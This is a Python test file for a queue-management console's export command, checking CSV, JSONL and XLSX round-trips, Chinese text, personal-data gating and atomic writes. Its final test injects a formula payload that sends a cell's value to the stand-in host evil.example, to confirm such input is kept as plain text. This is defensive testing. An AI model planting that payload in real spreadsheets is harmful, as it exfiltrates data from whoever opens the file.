"""Exports round-trip through real readers with the documented columns and Chinese intact."""

from __future__ import annotations

import csv
import io
import json
import signal
import subprocess
import sys
from datetime import date, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest

from console.cli.main import app
from console.reports.atomic import TMP_MARK
from console.reports.columns import WHATS, columns, schema
from console.reports.export import all_columns_have_sql
from tests.admin.conftest import cli_env
from tests.waiting import scaled, wait_until

ROOT = Path(__file__).resolve().parents[2]
DAY = ["--day", "2026-11-26"]


def names(what: str, personal: bool = False) -> list[str]:
    return [c.name for c in columns(what, personal)]


def run_export(runner, db: Path, *args: str):
    return runner.invoke(app, ["export", "--db", str(db), *args])


def test_every_schema_column_has_sql_and_titles() -> None:
    assert all_columns_have_sql() == []
    for what in WHATS:
        for name, prop in schema(what)["properties"].items():
            assert prop["title"] and prop["x-title-zh"] and prop["description"], name


@pytest.mark.parametrize("what", WHATS)
def test_csv_round_trip(runner, day_db: Path, tmp_path: Path, what: str) -> None:
    out = tmp_path / f"{what}.csv"
    result = run_export(runner, day_db, *DAY, "--what", what, "--out", str(out))
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == names(what)
    assert len(rows) > 1
    text = out.read_text(encoding="utf-8")
    assert not text.startswith("\ufeff") and "\r\n" not in text
    if what == "tickets":
        by_number = {r[2]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
        a001 = by_number["A001"]
        assert a001["service_name_zh"] == "身份证"
        assert (a001["wait_s"], a001["handling_s"], a001["within_target"]) == ("720", "480", "1")
        assert a001["issued_at"] == "2026-11-26 09:30:00"
        assert (a001["outcome"], json.loads(a001["materials"])) == ("incomplete", ["照片"])
        assert by_number["A005"]["session"] == "夜间专场 Night"
        assert by_number["A003"]["within_target"] == "0"
        assert by_number["B002"]["called_at"] == "" and by_number["B002"]["wait_s"] == ""
    if what == "summary":
        assert rows[-1][1] == "*" and rows[-1][2] == "全部业务"


def test_csv_for_excel_has_bom_and_crlf(runner, day_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    result = run_export(runner, day_db, *DAY, "--excel", "--header", "zh", "--out", str(out))
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert (
        raw.startswith(b"\xef\xbb\xbf")
        and b"\r\n" in raw
        and b"\n" not in raw.replace(b"\r\n", b"")
    )
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0][:3] == ["票据编号", "业务日期", "排队号"]
    assert "身份证" in rows[1]


@pytest.mark.parametrize("what", WHATS)
def test_jsonl_round_trip_validates_against_the_schema(
    runner, day_db: Path, tmp_path: Path, what: str
) -> None:
    jsonschema_rs = pytest.importorskip("jsonschema_rs")
    out = tmp_path / f"{what}.jsonl"
    result = run_export(runner, day_db, *DAY, "--what", what, "--format", "jsonl",
                        "--out", str(out))  # fmt: skip
    assert result.exit_code == 0, result.output
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert records
    validator = jsonschema_rs.validator_for(schema(what))
    for rec in records:
        assert list(rec) == names(what)
        errors = [e.message for e in validator.iter_errors(rec)]
        assert not errors, (rec, errors)
    if what == "tickets":
        b001 = next(r for r in records if r["number"] == "B001")
        assert b001["green_reason"] == "elderly" and "green_note" not in b001
        assert b001["service_name_zh"] == "护照" and b001["materials"] == []
    if what == "events":
        assert any(r["kind"] == "finished" for r in records)


def test_xlsx_round_trip_with_types_and_frozen_header(runner, day_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    result = run_export(runner, day_db, *DAY, "--format", "xlsx", "--out", str(out))
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(out)
    ws = wb["tickets"]
    assert ws.freeze_panes == "A2"
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == names("tickets")
    a001 = dict(zip(rows[0], rows[1], strict=True))
    assert a001["number"] == "A001" and a001["service_name_zh"] == "身份证"
    assert a001["issued_at"] == datetime(2026, 11, 26, 9, 30)
    assert a001["wait_s"] == timedelta(seconds=720)
    assert ws.cell(row=2, column=names("tickets").index("wait_s") + 1).number_format == "[h]:mm:ss"
    assert isinstance(a001["day"], datetime | date)


@pytest.mark.parametrize("what", WHATS)
def test_xlsx_every_export(runner, day_db: Path, tmp_path: Path, what: str) -> None:
    result = run_export(runner, day_db, *DAY, "--what", what, "--format", "xlsx",
                        "--header", "en", "--out", str(tmp_path))  # fmt: skip
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(tmp_path / f"{what}-2026-11-26.xlsx")
    header = next(wb.active.iter_rows(values_only=True))
    assert list(header) == [c.title_en for c in columns(what)]


def test_personal_data_only_when_asked(runner, day_db: Path, tmp_path: Path) -> None:
    plain = tmp_path / "plain.jsonl"
    run_export(runner, day_db, *DAY, "--format", "jsonl", "--out", str(plain))
    text = plain.read_text(encoding="utf-8")
    assert "张三" not in text and "坐轮椅" not in text and "clerk 1001" not in text
    assert "办结，已告知取证时间" not in text

    events = tmp_path / "events.csv"
    run_export(runner, day_db, *DAY, "--what", "events", "--out", str(events))
    etext = events.read_text(encoding="utf-8")
    assert "坐轮椅" not in etext and "办结，已告知取证时间" not in etext
    assert "clerk 1001" not in etext  # clerk.added events lose the name

    full = tmp_path / "full.jsonl"
    run_export(runner, day_db, *DAY, "--format", "jsonl", "--personal", "--out", str(full))
    recs = {r["number"]: r for r in map(json.loads, full.read_text().splitlines())}
    assert recs["B002"]["appointment_name"] == "张三"
    assert recs["B001"]["green_note"] == "坐轮椅" and recs["A001"]["clerk_name"] == "clerk 1001"
    assert list(recs["A001"]) == names("tickets", personal=True)


def test_stdout_and_directory_targets(runner, day_db: Path, tmp_path: Path) -> None:
    result = run_export(runner, day_db, *DAY, "--format", "jsonl")
    assert result.exit_code == 0
    assert len(result.stdout.splitlines()) == 7
    result = run_export(runner, day_db, "--from", "2026-11-20", "--to", "2026-11-26",
                        "--what", "summary", "--out", str(tmp_path))  # fmt: skip
    assert result.exit_code == 0, result.output
    assert (tmp_path / "summary-2026-11-20_2026-11-26.csv").exists()


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "xlsx"])
@pytest.mark.parametrize("what", WHATS)
def test_empty_range_gives_a_header_only_file(
    runner, day_db: Path, tmp_path: Path, fmt: str, what: str
) -> None:
    out = tmp_path / f"empty.{fmt}"
    result = run_export(runner, day_db, "--from", "2025-01-01", "--to", "2025-01-31",
                        "--what", what, "--format", fmt, "--out", str(out))  # fmt: skip
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        assert list(csv.reader(out.open(encoding="utf-8"))) == [names(what)]
    elif fmt == "jsonl":
        assert out.read_text() == ""
    else:
        rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
        assert rows == [tuple(names(what))]


@pytest.mark.parametrize(
    "args",
    [
        ["--day", "2026-02-30"],
        ["--day", "26/11/2026"],
        ["--from", "2026-11-01"],
        ["--from", "2026-11-30", "--to", "2026-11-01"],
        ["--day", "today", "--from", "2026-11-01", "--to", "2026-11-02"],
        ["--day", "today", "--format", "pdf"],
        ["--day", "today", "--what", "people"],
    ],
)
def test_bad_input_exits_2_with_one_line(runner, day_db: Path, args: list[str]) -> None:
    result = run_export(runner, day_db, *args)
    assert result.exit_code == 2
    assert result.stdout == ""
    assert len(result.stderr.strip().splitlines()) == 1 and result.stderr.startswith("qconsole: ")


def test_bad_date_as_json(runner, day_db: Path) -> None:
    result = run_export(runner, day_db, "--day", "yesterdy", "--json")
    assert result.exit_code == 2
    assert json.loads(result.stderr)["error"] == "bad_input"


def test_missing_database_exits_3(runner, tmp_path: Path) -> None:
    result = run_export(runner, tmp_path / "nope.db", "--day", "today")
    assert result.exit_code == 3


def test_killed_export_leaves_no_file_at_the_target(day_db: Path, tmp_path: Path) -> None:
    """SIGKILL mid-write: the target never appears; only the hidden temporary, which the
    next run for the same target removes."""
    target = tmp_path / "out" / "tickets.csv"
    target.parent.mkdir()
    cmd = [sys.executable, "-c", "from console.cli.main import run; run()", "export",
           "--db", str(day_db), "--day", "2026-11-26", "--out", str(target)]  # fmt: skip
    proc = subprocess.Popen(cmd, cwd=ROOT, env=cli_env(QCONSOLE_EXPORT_TEST_SLOW="0.3"),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)  # fmt: skip
    temp = target.with_name(f".tickets.csv{TMP_MARK}{proc.pid}")

    def writing() -> bool:
        assert proc.poll() is None, proc.communicate()
        return temp.exists() and temp.stat().st_size > 0

    wait_until(writing, timeout=20, what="the export writing its temporary file")
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert not target.exists()
    assert [p.name for p in target.parent.iterdir()] == [temp.name]

    done = subprocess.run(cmd, cwd=ROOT, env=cli_env(), capture_output=True, timeout=scaled(60))
    assert done.returncode == 0, done.stderr
    assert [p.name for p in target.parent.iterdir()] == ["tickets.csv"]
    assert len(target.read_text(encoding="utf-8").splitlines()) == 8


def test_failed_export_removes_its_temporary(day_db: Path, tmp_path: Path, monkeypatch) -> None:
    from console.reports import export as export_mod
    from console.reports.dates import DayRange
    from console.reports.db import open_readonly

    def boom(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export_mod, "_write_csv", boom)
    spec = export_mod.ExportSpec("tickets", DayRange("2026-11-26", "2026-11-26"))
    with pytest.raises(OSError):
        export_mod.export(open_readonly(day_db), spec, str(tmp_path / "x.csv"))
    assert not any(p.name.startswith(".x.csv") or p.name == "x.csv" for p in tmp_path.iterdir())


@pytest.mark.parametrize("personal", [False, True])
@pytest.mark.parametrize("what", ["tickets", "events"])
def test_sql_built_csv_reads_back_like_the_csv_module(
    worked_day, clock, tmp_path: Path, what: str, personal: bool
) -> None:
    """CSV lines are built by SQLite for speed; a reader must see what csv.writer would write."""
    from console.reports import export as export_mod
    from console.reports.dates import DayRange
    from console.reports.db import open_readonly
    from tests.conftest import ADMIN, clerk

    c3 = clerk("1003")
    worked_day.issue(ADMIN, "PP", green_reason="other", green_note='说 "急", 带孩子')
    worked_day.call_next(c3, 3)
    worked_day.finish(c3, 3, outcome="referred", note='he said "no",\nthen left, ok')
    db = Path(worked_day.path)
    worked_day.close()
    conn = open_readonly(db)
    spec = export_mod.ExportSpec(what, DayRange("2026-11-26", "2026-11-26"), personal=personal)
    buf = io.StringIO(newline="")
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(spec.header_row())
    w.writerows(conn.execute(export_mod.select_sql(spec), export_mod.query_params(conn, spec)))
    expected = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    out = tmp_path / "x.csv"
    export_mod.export(conn, spec, str(out))
    with out.open(encoding="utf-8", newline="") as f:
        got = list(csv.reader(f))
    assert got == expected
    assert any("he said" in cell for row in got for cell in row) == personal


def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(
    runner, day_db: Path, tmp_path: Path, monkeypatch
) -> None:
    from console.reports import xlsx

    monkeypatch.setattr(xlsx, "XLSX_MAX_ROWS", 3)
    out = tmp_path / "t.xlsx"
    result = run_export(runner, day_db, *DAY, "--format", "xlsx", "--out", str(out))
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["tickets", "tickets (2)", "tickets (3)"]
    counts = [ws.max_row - 1 for ws in wb.worksheets]
    assert counts == [3, 3, 1] and all(ws.freeze_panes == "A2" for ws in wb.worksheets)


def test_xlsx_keeps_typed_text_as_text(runner, worked_day, clock, tmp_path: Path) -> None:
    """A name or note a citizen dictated that starts like a formula is not evaluated."""
    from tests.admin.conftest import ADMIN, at

    typed = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=1+2", "+86 138", "-5", "@SUM(A1)"]
    worked_day.import_appointments(ADMIN, [{"code": "YY09", "service": "PP",
                                            "date": "2026-11-26", "name": typed[0]}])  # fmt: skip
    at(clock, 6)
    worked_day.check_in(ADMIN, "YY09")
    for note in typed[1:]:
        worked_day.issue(ADMIN, "ID", green_reason="other", green_note=note)
    path = Path(worked_day.path)
    worked_day.close()
    out = tmp_path / "t.xlsx"
    result = run_export(runner, path, *DAY, "--format", "xlsx", "--personal", "--out", str(out))
    assert result.exit_code == 0, result.output
    cells = [c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
    found = {c.value: c.data_type for c in cells if c.value in typed}
    assert found == dict.fromkeys(typed, "s")
